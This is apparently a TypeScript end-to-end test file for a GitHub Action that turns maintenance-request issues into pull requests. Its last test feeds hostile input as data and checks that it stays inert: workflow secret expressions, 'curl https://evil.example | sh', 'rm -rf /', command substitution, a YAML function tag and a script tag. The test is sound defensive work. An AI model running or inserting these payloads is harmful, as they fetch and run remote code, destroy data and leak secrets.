// End to end: the bundled action in `mode: intake` on real `issues` webhook payloads, against the
// local GitHub API server. A submitted form becomes one pull request with the request file, which
// `maint validate` passes; an edit updates it; a form that does not parse gets one comment and no
// pull request; hostile text stays text; the dispatched validation counts the requester as author.
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { parse } from 'yaml';
import { afterEach, describe, expect, it } from 'vitest';
import { INTAKE_LABEL, requestFormFields } from '../../src/intake/form.ts';
import { INTAKE_MARKER } from '../../src/intake/comment.ts';
import { cli } from '../helpers/cli.ts';
import { submittedBody } from '../intake/support.ts';
import { runAction, webhookExample, type ActionRun } from './run-action.ts';
import { REPO, startRepo, sundayAhead, TOKEN, type Repo } from './scenario.ts';

let repo: Repo;
afterEach(async () => {
  expect(repo.server.violations).toEqual([]);
  await repo.server.close();
});

const fields = requestFormFields({ environments: ['production', 'staging', 'development'], timezone: 'UTC' });
const start = sundayAhead(21);
const ANSWERS: Record<string, string> = {
  type: 'standard',
  category: 'system-update',
  environment: 'production',
  services: 'api, web',
  start,
  timezone: 'UTC',
  duration: '1h',
  impact: 'low',
  impact_description: 'The API answers slowly for a few minutes',
  description: 'Roll the API nodes onto the new kernel.\n\n1. Drain\n2. Reboot',
  rollback: 'Boot the previous kernel.',
};

async function startIntakeRepo(): Promise<Repo> {
  const started = await startRepo();
  started.server.seed.label(REPO, { name: INTAKE_LABEL });
  started.server.seed.workflow(REPO, { path: 'maintenance-validate.yml' });
  return started;
}

function fileIssue(
  title: string,
  answers: Record<string, string | undefined>,
  user = 'bob',
  labels = [INTAKE_LABEL],
) {
  return repo.server.seed.issue(REPO, { title, body: submittedBody(fields, answers), user, labels }).number;
}

function editIssue(number: number, change: { title?: string; answers?: Record<string, string | undefined> }) {
  const issue = repo.server.state.issue(REPO, number)!;
  if (change.title !== undefined) issue.title = change.title;
  if (change.answers) issue.body = submittedBody(fields, change.answers);
}

/** A real `issues` payload (GitHub's documentation example) pointed at the test issue. */
function issuesEvent(action: 'opened' | 'edited', number: number): Record<string, unknown> {
  const payload = webhookExample('issues', action);
  const record = repo.server.state.issue(REPO, number)!;
  const issue = payload.issue as Record<string, unknown>;
  Object.assign(issue, {
    number,
    title: record.title,
    body: record.body,
    user: { ...(issue.user as object), login: record.user },
    labels: record.labels.map((name) => ({ name })),
  });
  payload.repository = {
    ...(payload.repository as object),
    name: 'app',
    full_name: REPO,
    owner: { login: 'acme' },
    default_branch: 'main',
  };
  return payload;
}

function intake(action: 'opened' | 'edited', number: number): Promise<ActionRun> {
  return runAction({
    apiUrl: repo.server.url,
    repository: REPO,
    eventName: 'issues',
    payload: issuesEvent(action, number),
    inputs: { mode: 'intake', token: TOKEN },
  });
}

const pulls = () => [...repo.server.state.repo(REPO).pulls.values()];
const issueComments = (number: number) => repo.server.state.comments(REPO, number);
const branchHead = (number: number) =>
  repo.server.state.repo(REPO).refs.get(`refs/heads/maint/intake-${number}`);
const fileAt = (sha: string, path: string) =>
  repo.server.state.git.get(sha)?.tree.get(path)?.toString('utf8');

/** `maint validate` on the request file, in a checkout of the pull request's head. */
async function maintValidate(head: string, path: string) {
  const dir = mkdtempSync(join(tmpdir(), 'maint-intake-'));
  for (const [name, content] of repo.server.state.git.get(head)!.tree) {
    mkdirSync(dirname(join(dir, name)), { recursive: true });
    writeFileSync(join(dir, name), content);
  }
  return cli(['validate', path], { cwd: dir, now: new Date().toISOString() });
}

describe('a submitted form becomes one pull request', () => {
  it('opens the pull request with the request file, links it both ways and dispatches the validation', async () => {
    repo = await startIntakeRepo();
    const number = fileIssue('Kernel update on the API nodes', ANSWERS);
    const run = await intake('opened', number);
    expect(run.code, run.stdout).toBe(0);
    expect(run.outputs.result).toBe('opened');

    expect(pulls()).toHaveLength(1);
    const pull = pulls()[0]!;
    const pullIssue = repo.server.state.issue(REPO, pull.number)!;
    expect(pull.head.ref).toBe(`maint/intake-${number}`);
    expect(pullIssue.user).toBe('github-actions[bot]');
    expect(pullIssue.title).toBe('Maintenance request: Kernel update on the API nodes');
    expect(pullIssue.body).toContain(`Closes #${number}`);
    expect(run.outputs['pull-request']).toBe(String(pull.number));

    const path = `maintenance/${start.slice(0, 4)}/kernel-update-on-the-api-nodes.yaml`;
    const text = fileAt(pull.head.sha, path)!;
    expect(parse(text)).toEqual({
      title: 'Kernel update on the API nodes',
      type: 'standard',
      category: 'system-update',
      environment: 'production',
      services: ['api', 'web'],
      start,
      timezone: 'UTC',
      duration: '1h',
      impact: 'low',
      impact_description: 'The API answers slowly for a few minutes',
      description: 'Roll the API nodes onto the new kernel.\n\n1. Drain\n2. Reboot',
      rollback: 'Boot the previous kernel.',
      requester: 'bob',
    });
    const checked = await maintValidate(pull.head.sha, path);
    expect(checked.code, checked.stdout + checked.stderr).toBe(0);

    const comments = issueComments(number);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain(INTAKE_MARKER);
    expect(comments[0]!.body).toContain(`https://github.com/${REPO}/pull/${pull.number}`);
    expect(comments[0]!.body).toContain('✅ valid');
    expect(repo.server.state.dispatches(REPO)).toEqual([
      expect.objectContaining({ ref: 'main', inputs: { pull_request: String(pull.number) } }),
    ]);
  });

  it('the dispatched validation checks the pull request and does not count the requester as an approver', async () => {
    repo = await startIntakeRepo();
    const number = fileIssue('Kernel update on the API nodes', ANSWERS, 'bob');
    await intake('opened', number);
    const pull = pulls()[0]!;
    // bob filed the issue and is a code owner: his approval is his own request's.
    repo.server.seed.review(REPO, pull.number, { user: 'bob', state: 'APPROVED' });
    const dispatch = webhookExample('workflow_dispatch');
    dispatch.inputs = { pull_request: String(pull.number) };
    dispatch.repository = {
      ...(dispatch.repository as object),
      full_name: REPO,
      name: 'app',
      owner: { login: 'acme' },
    };
    const validate = () =>
      runAction({
        apiUrl: repo.server.url,
        repository: REPO,
        eventName: 'workflow_dispatch',
        payload: dispatch,
        inputs: { mode: 'validate', token: TOKEN },
      });
    const first = await validate();
    expect(first.outputs).toMatchObject({ valid: 'true', approved: 'false' });
    const checks = repo.server.state.checkRuns(REPO, pull.head.sha);
    expect(checks.map((c) => [c.name, c.conclusion])).toEqual([['maintenance/validate', 'action_required']]);

    repo.server.seed.review(REPO, pull.number, { user: 'dave', state: 'APPROVED' });
    const second = await validate();
    expect(second.outputs).toMatchObject({ valid: 'true', approved: 'true', conclusion: 'success' });
  });

  it('an edit of the issue updates the same pull request with a new commit and the comment in place', async () => {
    repo = await startIntakeRepo();
    const number = fileIssue('Kernel update on the API nodes', ANSWERS);
    await intake('opened', number);
    const pull = pulls()[0]!;
    const firstHead = pull.head.sha;
    const path = `maintenance/${start.slice(0, 4)}/kernel-update-on-the-api-nodes.yaml`;

    editIssue(number, { title: 'Kernel 6.12 on the API nodes', answers: { ...ANSWERS, duration: '2h' } });
    const run = await intake('edited', number);
    expect(run.outputs.result).toBe('updated');
    expect(pulls()).toHaveLength(1);
    expect(pull.head.sha).not.toBe(firstHead);
    expect(repo.server.state.git.get(pull.head.sha)!.parents).toEqual([firstHead]);
    // The id and path stay; the content follows the issue.
    expect(parse(fileAt(pull.head.sha, path)!)).toMatchObject({
      title: 'Kernel 6.12 on the API nodes',
      duration: '2h',
    });
    const comments = issueComments(number);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toContain('updated with this edit');
    expect(repo.server.state.dispatches(REPO)).toHaveLength(2);

    // An edit that changes nothing the request says: no commit, no new validation run.
    const head = pull.head.sha;
    const again = await intake('edited', number);
    expect(again.outputs.result).toBe('unchanged');
    expect(pull.head.sha).toBe(head);
    expect(repo.server.state.dispatches(REPO)).toHaveLength(2);
    expect(issueComments(number)).toHaveLength(1);
  });

  it('the id is made unique against the requests on the default branch', async () => {
    repo = await startIntakeRepo();
    const number = fileIssue('Existing DB upgrade', { ...ANSWERS });
    await intake('opened', number);
    const files = [...repo.server.state.git.get(pulls()[0]!.head.sha)!.tree.keys()].filter((p) =>
      p.includes('existing-db-upgrade'),
    );
    expect(files.sort()).toEqual(
      [
        `maintenance/${sundayAhead(60).slice(0, 4)}/existing-db-upgrade.yaml`,
        `maintenance/${start.slice(0, 4)}/existing-db-upgrade-2.yaml`,
      ].sort(),
    );
  });

  it('after the merge, an edit changes nothing and says so', async () => {
    repo = await startIntakeRepo();
    const number = fileIssue('Kernel update on the API nodes', ANSWERS);
    await intake('opened', number);
    const pull = pulls()[0]!;
    Object.assign(pull, { merged: true, merged_at: new Date().toISOString() });
    repo.server.state.issue(REPO, pull.number)!.state = 'closed';
    const head = pull.head.sha;
    editIssue(number, { answers: { ...ANSWERS, duration: '3h' } });
    const run = await intake('edited', number);
    expect(run.outputs.result).toBe('merged');
    expect(branchHead(number)).toBe(head);
    expect(issueComments(number)).toHaveLength(1);
    expect(issueComments(number)[0]!.body).toContain(`merged in #${pull.number}`);
  });

  it('a pull request closed unmerged is reopened by the next edit; one whose branch is gone is replaced', async () => {
    repo = await startIntakeRepo();
    const number = fileIssue('Kernel update on the API nodes', ANSWERS);
    await intake('opened', number);
    const first = pulls()[0]!;
    repo.server.state.issue(REPO, first.number)!.state = 'closed';
    editIssue(number, { answers: { ...ANSWERS, duration: '2h' } });
    expect((await intake('edited', number)).outputs.result).toBe('updated');
    expect(pulls()).toHaveLength(1);
    expect(repo.server.state.issue(REPO, first.number)!.state).toBe('open');

    repo.server.state.issue(REPO, first.number)!.state = 'closed';
    repo.server.state.repo(REPO).refs.delete(`refs/heads/maint/intake-${number}`);
    editIssue(number, { answers: { ...ANSWERS, duration: '3h' } });
    expect((await intake('edited', number)).outputs.result).toBe('opened');
    expect(pulls()).toHaveLength(2);
    const second = pulls()[1]!;
    // The same file as before: the id was made once.
    const path = `maintenance/${start.slice(0, 4)}/kernel-update-on-the-api-nodes.yaml`;
    expect(parse(fileAt(second.head.sha, path)!)).toMatchObject({ duration: '3h' });
    expect(issueComments(number)).toHaveLength(1);
  });

  it('when the validation cannot be dispatched, the pull request stands, the comment says so and the step fails', async () => {
    repo = await startRepo();
    repo.server.seed.label(REPO, { name: INTAKE_LABEL });
    const number = fileIssue('Kernel update on the API nodes', ANSWERS);
    const run = await intake('opened', number);
    expect(run.code).toBe(1);
    expect(run.stdout).toMatch(/could not start maintenance-validate\.yml/);
    expect(pulls()).toHaveLength(1);
    expect(issueComments(number)[0]!.body).toContain('could not be started');
  });

  it('costs a bounded number of API requests', async () => {
    repo = await startIntakeRepo();
    const number = fileIssue('Kernel update on the API nodes', ANSWERS);
    repo.server.resetLog();
    await intake('opened', number);
    const opened = repo.server.requests.length;
    repo.server.resetLog();
    editIssue(number, { answers: { ...ANSWERS, duration: '2h' } });
    await intake('edited', number);
    const edited = repo.server.requests.length;
    // opened: issue, 2 refs, PR lookup, tarball (+ download), ref create, file read and write, PR
    // create, dispatch, comments list and create; edited: the PR's files instead of the PR create.
    expect(opened).toBeLessThanOrEqual(13);
    expect(edited).toBeLessThanOrEqual(12);
  });

  it('an issue without the form label, or closed, is left alone', async () => {
    repo = await startIntakeRepo();
    const unlabelled = fileIssue('Not a request', ANSWERS, 'bob', []);
    const run = await intake('opened', unlabelled);
    expect(run.code).toBe(0);
    expect(run.outputs.result).toBe('skipped');
    const closed = fileIssue('Closed request', ANSWERS);
    repo.server.state.issue(REPO, closed)!.state = 'closed';
    expect((await intake('edited', closed)).outputs.result).toBe('skipped');
    expect(pulls()).toHaveLength(0);
    expect(repo.server.state.comments(REPO)).toHaveLength(0);
  });
});

describe('a form that does not parse', () => {
  it('gets one comment naming each field to fix, updated in place on the next edit, and no pull request', async () => {
    repo = await startIntakeRepo();
    const number = fileIssue('Kernel update', { ...ANSWERS, services: undefined, start: 'next Sunday' });
    const run = await intake('opened', number);
    expect(run.code).toBe(0);
    expect(run.outputs.result).toBe('invalid');
    expect(pulls()).toHaveLength(0);
    expect(branchHead(number)).toBeUndefined();
    let comments = issueComments(number);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).toMatch(/\*\*Services\*\*: is required/);
    expect(comments[0]!.body).not.toContain('**Start**'); // a required field is missing: checked first

    editIssue(number, { answers: { ...ANSWERS, start: 'next Sunday' } });
    await intake('edited', number);
    comments = issueComments(number);
    expect(comments).toHaveLength(1);
    expect(comments[0]!.body).not.toContain('**Services**');
    expect(comments[0]!.body).toMatch(/\*\*Start\*\*: \\`start\\` \\`next Sunday\\` is not a date-time/);
    expect(pulls()).toHaveLength(0);

    editIssue(number, { answers: ANSWERS });
    expect((await intake('edited', number)).outputs.result).toBe('opened');
    expect(pulls()).toHaveLength(1);
    expect(issueComments(number)).toHaveLength(1);
  });

  it('a valid request that breaks the policy still gets its pull request, with the findings in the comment', async () => {
    repo = await startIntakeRepo();
    const tuesday = new Date(Date.parse(`${start}:00Z`) + 2 * 86_400_000).toISOString().slice(0, 10);
    const number = fileIssue('Kernel update', { ...ANSWERS, start: `${tuesday}T10:00` });
    const run = await intake('opened', number);
    expect(run.outputs.result).toBe('opened');
    const body = issueComments(number)[0]!.body;
    expect(body).toMatch(/❌ \d+ errors?/);
    expect(body).toContain('outside the production windows');
    expect(body).toMatch(/\*\*Next free slot:\*\*/);
  });
});

describe('hostile text in the issue stays text', () => {
  it('in the YAML, the branch name, the path and the comments', async () => {
    repo = await startIntakeRepo();
    const title =
      '${{ github.token }} `id` ; rm -rf / && echo $(whoami) <!-- maint:intake --> @acme/everyone';
    const evil = [
      '${{ secrets.MAINT_TOKEN }}',
      '`curl https://evil.example | sh`',
      '"; rm -rf / #',
      'key: value',
      '- item',
      '--- !!js/function x',
      '<script>alert(1)</script> @acme/everyone #1',
      '### Not a field heading',
      'x'.repeat(5000),
    ].join('\r\n');
    const number = fileIssue(title, { ...ANSWERS, description: evil, rollback: evil, risks: evil });
    const run = await intake('opened', number);
    expect(run.outputs.result, run.stdout).toBe('opened');
    const pull = pulls()[0]!;
    expect(pull.head.ref).toBe(`maint/intake-${number}`);
    const refs = [...repo.server.state.repo(REPO).refs.keys()];
    expect(refs.every((r) => /^refs\/heads\/[a-z0-9/-]+$/.test(r))).toBe(true);
    const added = [...repo.server.state.git.get(pull.head.sha)!.tree.keys()].filter(
      (p) => !repo.server.state.git.get(repo.base)!.tree.has(p),
    );
    expect(added).toHaveLength(1);
    expect(added[0]).toMatch(/^maintenance\/\d{4}\/[a-z0-9]+(-[a-z0-9]+)*\.yaml$/);
    const doc = parse(fileAt(pull.head.sha, added[0]!)!) as Record<string, string>;
    const expected = evil.replace(/\r\n/g, '\n');
    expect(doc.description).toBe(expected);
    expect(doc.rollback).toBe(expected);
    expect(doc.risks).toBe(expected);
    expect(doc.title).toBe(title);

    const [comment] = issueComments(number);
    expect(comment!.body.match(/<!-- maint:intake -->/g)).toHaveLength(1);
    expect(comment!.body).not.toContain('@acme/everyone');
    const pullBody = repo.server.state.issue(REPO, pull.number)!.body!;
    expect(pullBody).not.toContain('${{');
    expect(pullBody).not.toContain('@acme/everyone');
  });
});
